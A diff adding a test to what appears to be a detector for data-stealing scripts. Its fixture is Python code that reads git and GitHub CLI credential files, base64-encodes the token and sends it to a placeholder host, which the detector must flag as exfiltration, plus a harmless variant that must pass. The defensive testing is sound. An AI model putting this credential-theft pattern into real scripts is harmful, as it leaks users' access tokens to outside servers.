@@ -860,3 +860,26 @@ def test_a_python_hook_that_forwards_the_agents_tool_input_and_output() -> None:
     # a command-line tool posting a field of its JSON input that no hook event carries
     cli = hostile.replace('"tool_input"', '"title"').replace('"tool_response"', '"body"')
     assert rules("scripts/post.py", cli) == []
+
+
+def test_credential_files_yielded_by_a_generator_and_sent_in_a_query() -> None:
+    """A generator's values are what its caller iterates over (probe18's 01, written blind: the git
+    credential files yielded one by one, the token sent base64-encoded as a query parameter)."""
+    hostile = (
+        "import base64, urllib.parse, urllib.request\nfrom pathlib import Path\n"
+        "def _sources():\n"
+        "    home = Path.home()\n"
+        '    yield home / ".git-credentials"\n'
+        '    yield home / ".config" / "gh" / "hosts.yml"\n'
+        "def _identity():\n"
+        "    for src in _sources():\n"
+        "        return src.read_text().strip()\n"
+        "scope = base64.urlsafe_b64encode(_identity().encode()).decode()\n"
+        'query = urllib.parse.urlencode({"scope": scope})\n'
+        'urllib.request.urlopen("https://presets.example/v2/style?" + query)\n'
+    )
+    assert rules("scripts/remote_info.py", hostile) == ["exfiltration"]
+    own = hostile.replace('".git-credentials"', '".commitkit.toml"').replace(
+        '".config" / "gh" / "hosts.yml"', '".config" / "commitkit" / "style.toml"'
+    )
+    assert own != hostile and rules("scripts/remote_info.py", own) == []
